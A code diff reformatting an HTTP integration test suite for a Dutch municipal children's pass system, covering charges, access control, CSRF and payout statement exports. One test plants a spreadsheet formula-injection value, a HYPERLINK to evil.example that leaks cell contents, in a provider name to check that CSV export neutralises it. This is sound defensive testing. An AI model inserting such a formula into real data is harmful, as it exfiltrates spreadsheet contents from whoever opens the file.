@@ -30,7 +30,11 @@ beforeAll(async () => {
     loginAs(t.app, demoEmails.analyst),
     loginAs(t.app, demoEmails.creditor),
   ]);
-  const providers = (await t.app.inject({ method: 'GET', url: '/api/v1/pass/providers', headers: admin.headers })).json() as { id: string; name: string; organisationId: string }[];
+  const providers = (await t.app.inject({ method: 'GET', url: '/api/v1/pass/providers', headers: admin.headers })).json() as {
+    id: string;
+    name: string;
+    organisationId: string;
+  }[];
   demoProviderId = providers.find((p) => p.name.startsWith('Sport en Cultuur'))!.id;
   const bookshop = providers.find((p) => p.name.startsWith('Boekhandel'))!;
   bookshopProviderId = bookshop.id;
@@ -39,7 +43,13 @@ beforeAll(async () => {
     method: 'POST',
     url: '/api/v1/users',
     headers: admin.headers,
-    payload: { organisationId: bookshop.organisationId, email: 'kassa@boekhandel.example', displayName: 'Bo Boekhandel', roles: ['provider_cashier'], password: 'Boekhandel-kassa-1' },
+    payload: {
+      organisationId: bookshop.organisationId,
+      email: 'kassa@boekhandel.example',
+      displayName: 'Bo Boekhandel',
+      roles: ['provider_cashier'],
+      password: 'Boekhandel-kassa-1',
+    },
   });
   expect(created.statusCode).toBe(201);
   otherCashier = await loginAs(t.app, 'kassa@boekhandel.example', 'Boekhandel-kassa-1');
@@ -78,11 +88,24 @@ describe('the till over HTTP', () => {
     const retry = await t.app.inject({ method: 'POST', url: '/api/v1/pass/charges', headers: cashier.headers, payload });
     expect(retry.statusCode).toBe(200);
     expect(retry.json()).toMatchObject({ receiptNumber: first.json().receiptNumber, replayed: true, balanceAfterCents: 48_000 });
-    const tooMuch = await t.app.inject({ method: 'POST', url: '/api/v1/pass/charges', headers: cashier.headers, payload: { ...payload, amountCents: 48_001, idempotencyKey: 'http-charge-0002' } });
+    const tooMuch = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/pass/charges',
+      headers: cashier.headers,
+      payload: { ...payload, amountCents: 48_001, idempotencyKey: 'http-charge-0002' },
+    });
     expect(tooMuch.statusCode).toBe(422);
     expect(tooMuch.headers['content-type']).toContain('application/problem+json');
-    expect(tooMuch.json()).toMatchObject({ code: 'insufficient_balance', detail: 'Het kindtegoed is niet genoeg: er is nog € 480,00 over en er is € 480,01 gevraagd. Er is niets afgeschreven.' });
-    const leisure = await t.app.inject({ method: 'POST', url: '/api/v1/pass/charges', headers: cashier.headers, payload: { ...payload, category: 'leisure', idempotencyKey: 'http-charge-0003' } });
+    expect(tooMuch.json()).toMatchObject({
+      code: 'insufficient_balance',
+      detail: 'Het kindtegoed is niet genoeg: er is nog € 480,00 over en er is € 480,01 gevraagd. Er is niets afgeschreven.',
+    });
+    const leisure = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/pass/charges',
+      headers: cashier.headers,
+      payload: { ...payload, category: 'leisure', idempotencyKey: 'http-charge-0003' },
+    });
     expect(leisure.statusCode).toBe(422);
     expect(leisure.json().detail).toContain('niet besteed worden aan uitjes');
   });
@@ -105,48 +128,87 @@ describe('the till over HTTP', () => {
     expect(charged.statusCode).toBe(201);
     expect(charged.json().provider).toContain('Sport en Cultuur');
     for (const session of [caseWorker, analyst, creditor]) {
-      const response = await t.app.inject({ method: 'POST', url: '/api/v1/pass/charges', headers: session.headers, payload: { passNumber: jansen, memberNumber: 2, category: 'sport', amountCents: 1, idempotencyKey: 'not-allowed-001' } });
+      const response = await t.app.inject({
+        method: 'POST',
+        url: '/api/v1/pass/charges',
+        headers: session.headers,
+        payload: { passNumber: jansen, memberNumber: 2, category: 'sport', amountCents: 1, idempotencyKey: 'not-allowed-001' },
+      });
       expect(response.statusCode).toBe(403);
     }
-    const noCsrf = await t.app.inject({ method: 'POST', url: '/api/v1/pass/charges', headers: { cookie: cashier.headers.cookie! }, payload: { passNumber: jansen, memberNumber: 2, category: 'sport', amountCents: 1, idempotencyKey: 'no-csrf-0001' } });
+    const noCsrf = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/pass/charges',
+      headers: { cookie: cashier.headers.cookie! },
+      payload: { passNumber: jansen, memberNumber: 2, category: 'sport', amountCents: 1, idempotencyKey: 'no-csrf-0001' },
+    });
     expect(noCsrf.statusCode).toBe(403);
   });
 });
 
 describe('payout statements over HTTP', () => {
   it('gives a provider its own statement as JSON, CSV and PDF, and refuses another provider’s', async () => {
-    const json = await t.app.inject({ method: 'GET', url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31`, headers: cashier.headers });
+    const json = await t.app.inject({
+      method: 'GET',
+      url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31`,
+      headers: cashier.headers,
+    });
     expect(json.statusCode).toBe(200);
     const statement = json.json();
-    expect(statement.totals.payoutCents).toBe(statement.lines.reduce((s: number, l: { kind: string; amountCents: number }) => s + (l.kind === 'charge' ? l.amountCents : -l.amountCents), 0));
+    expect(statement.totals.payoutCents).toBe(
+      statement.lines.reduce((s: number, l: { kind: string; amountCents: number }) => s + (l.kind === 'charge' ? l.amountCents : -l.amountCents), 0),
+    );
     expect(statement.totals.charges).toBeGreaterThanOrEqual(3);
-    const csv = await t.app.inject({ method: 'GET', url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31&format=csv`, headers: cashier.headers });
+    const csv = await t.app.inject({
+      method: 'GET',
+      url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31&format=csv`,
+      headers: cashier.headers,
+    });
     expect(csv.headers['content-type']).toContain('text/csv');
     expect(csv.body).toContain(`totaal uit te betalen;;;;${statement.totals.payoutCents};`);
     // A provider's name is chosen by people outside the municipality: a formula in it must not run in Excel.
     const hostileName = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")';
     await t.db.unaudited((q) => q.update(passProviders).set({ name: hostileName }).where(eq(passProviders.id, demoProviderId)));
-    const hostile = await t.app.inject({ method: 'GET', url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31&format=csv`, headers: cashier.headers });
+    const hostile = await t.app.inject({
+      method: 'GET',
+      url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31&format=csv`,
+      headers: cashier.headers,
+    });
     const rows = parseCsv(hostile.body.replace(/^\uFEFF/, ''), { delimiter: ';' }) as string[][];
     expect(rows[0]!.at(-1)).toBe('aanbieder');
     expect(rows.slice(1).map((r) => r.at(-1))).toEqual(rows.slice(1).map(() => `'${hostileName}`));
     expect(rows.flat().filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
     expect(rows.slice(1).every((r) => /^-?\d+$/.test(r[6]!) && /^-?\d+,\d\d$/.test(r[7]!))).toBe(true);
-    const pdf = await t.app.inject({ method: 'GET', url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31&format=pdf`, headers: cashier.headers });
+    const pdf = await t.app.inject({
+      method: 'GET',
+      url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31&format=pdf`,
+      headers: cashier.headers,
+    });
     expect(pdf.headers['content-type']).toBe('application/pdf');
     expect(pdf.rawPayload.subarray(0, 4).toString()).toBe('%PDF');
 
-    const foreign = await t.app.inject({ method: 'GET', url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31`, headers: otherCashier.headers });
+    const foreign = await t.app.inject({
+      method: 'GET',
+      url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31`,
+      headers: otherCashier.headers,
+    });
     expect(foreign.statusCode).toBe(403);
     expect(foreign.json().detail).toContain('eigen organisatie');
-    const own = await t.app.inject({ method: 'GET', url: `/api/v1/pass/providers/${bookshopProviderId}/statement?from=2026-01-01&to=2026-12-31`, headers: otherCashier.headers });
+    const own = await t.app.inject({
+      method: 'GET',
+      url: `/api/v1/pass/providers/${bookshopProviderId}/statement?from=2026-01-01&to=2026-12-31`,
+      headers: otherCashier.headers,
+    });
     expect(own.statusCode).toBe(200);
     expect(own.json().lines).toEqual([]);
     // The cashier's provider list holds only its own provider.
     const list = (await t.app.inject({ method: 'GET', url: '/api/v1/pass/providers', headers: otherCashier.headers })).json() as { id: string }[];
     expect(list.map((p) => p.id)).toEqual([bookshopProviderId]);
     // An analyst is no provider and no pass office.
-    expect((await t.app.inject({ method: 'GET', url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31`, headers: analyst.headers })).statusCode).toBe(403);
+    expect(
+      (await t.app.inject({ method: 'GET', url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31`, headers: analyst.headers }))
+        .statusCode,
+    ).toBe(403);
   });
 });
 
@@ -166,17 +228,32 @@ describe('residents and the pass office over HTTP', () => {
     const outcome = applied.json();
     expect(outcome.eligible).toBe(true);
     expect(outcome.reason).toContain('alleenstaande ouder');
-    const status = await t.app.inject({ method: 'POST', url: '/api/v1/pass/status', payload: { reference: outcome.reference, accessCode: outcome.accessCode } });
+    const status = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/pass/status',
+      payload: { reference: outcome.reference, accessCode: outcome.accessCode },
+    });
     expect(status.json().status).toBe('submitted');
     const wrong = await t.app.inject({ method: 'POST', url: '/api/v1/pass/status', payload: { reference: outcome.reference, accessCode: 'ZZZZ-ZZZZ-ZZZZ' } });
     expect(wrong.statusCode).toBe(403);
 
-    const list = (await t.app.inject({ method: 'GET', url: '/api/v1/pass/applications?status=submitted', headers: caseWorker.headers })).json() as { id: string; reference: string; applicantName: string }[];
+    const list = (await t.app.inject({ method: 'GET', url: '/api/v1/pass/applications?status=submitted', headers: caseWorker.headers })).json() as {
+      id: string;
+      reference: string;
+      applicantName: string;
+    }[];
     const mine = list.find((a) => a.reference === outcome.reference)!;
     expect(mine.applicantName).toBe('E. Online');
-    const decided = await t.app.inject({ method: 'POST', url: `/api/v1/pass/applications/${mine.id}/decision`, headers: caseWorker.headers, payload: { approve: true } });
+    const decided = await t.app.inject({
+      method: 'POST',
+      url: `/api/v1/pass/applications/${mine.id}/decision`,
+      headers: caseWorker.headers,
+      payload: { approve: true },
+    });
     expect(decided.statusCode).toBe(200);
-    const after = (await t.app.inject({ method: 'POST', url: '/api/v1/pass/status', payload: { reference: outcome.reference, accessCode: outcome.accessCode } })).json();
+    const after = (
+      await t.app.inject({ method: 'POST', url: '/api/v1/pass/status', payload: { reference: outcome.reference, accessCode: outcome.accessCode } })
+    ).json();
     expect(after.pass.number).toBe(decided.json().pass.number);
     expect(after.budgets).toEqual([{ memberNumber: 2, initials: 'F.', ageGroup: 'primary', year: 2026, grantedCents: 30_000, balanceCents: 30_000 }]);
   });
@@ -186,7 +263,9 @@ describe('residents and the pass office over HTTP', () => {
     expect((await t.app.inject({ method: 'PUT', url: '/api/v1/pass/norms', headers: cashier.headers, payload: norm })).statusCode).toBe(403);
     expect((await t.app.inject({ method: 'PUT', url: '/api/v1/pass/norms', headers: caseWorker.headers, payload: norm })).statusCode).toBe(200);
     const config = (await t.app.inject({ method: 'GET', url: '/api/v1/pass/configuration', headers: caseWorker.headers })).json();
-    expect(config.norms.find((n: { householdType: string; validFrom: string }) => n.householdType === 'couple' && n.validFrom === '2026-07-01').monthlyNormCents).toBe(205_000);
+    expect(
+      config.norms.find((n: { householdType: string; validFrom: string }) => n.householdType === 'couple' && n.validFrom === '2026-07-01').monthlyNormCents,
+    ).toBe(205_000);
     expect(config.rules[0]).toMatchObject({ incomeLimitPercent: 140, primaryBudgetCents: 30_000, secondaryBudgetCents: 50_000 });
   });
 
@@ -197,14 +276,25 @@ describe('residents and the pass office over HTTP', () => {
     const second = (await t.app.inject({ method: 'POST', url: '/api/v1/pass/campaigns', headers: admin.headers, payload })).json();
     expect(first.credited).toBeGreaterThan(0);
     expect(second).toMatchObject({ credited: 0, alreadyCredited: first.credited });
-    expect((await t.app.inject({ method: 'GET', url: '/api/v1/pass/figures?fromMonth=2026-05&toMonth=2026-05', headers: cashier.headers })).statusCode).toBe(403);
-    const figures = (await t.app.inject({ method: 'GET', url: '/api/v1/pass/figures?fromMonth=2026-05&toMonth=2026-05', headers: analyst.headers })).json() as { measure: string; value: number }[];
+    expect((await t.app.inject({ method: 'GET', url: '/api/v1/pass/figures?fromMonth=2026-05&toMonth=2026-05', headers: cashier.headers })).statusCode).toBe(
+      403,
+    );
+    const figures = (await t.app.inject({ method: 'GET', url: '/api/v1/pass/figures?fromMonth=2026-05&toMonth=2026-05', headers: analyst.headers })).json() as {
+      measure: string;
+      value: number;
+    }[];
     expect(figures.find((f) => f.measure === 'pass.holders')!.value).toBeGreaterThan(0);
   });
 
   it('documents every pass route in the OpenAPI document', async () => {
     const doc = (await t.app.inject({ method: 'GET', url: '/api/v1/openapi.json' })).json() as { paths: Record<string, unknown> };
-    for (const path of ['/api/v1/pass/charges', '/api/v1/pass/refunds', '/api/v1/pass/applications', '/api/v1/pass/status', '/api/v1/pass/providers/{id}/statement']) {
+    for (const path of [
+      '/api/v1/pass/charges',
+      '/api/v1/pass/refunds',
+      '/api/v1/pass/applications',
+      '/api/v1/pass/status',
+      '/api/v1/pass/providers/{id}/statement',
+    ]) {
       expect(Object.keys(doc.paths)).toContain(path);
     }
   });
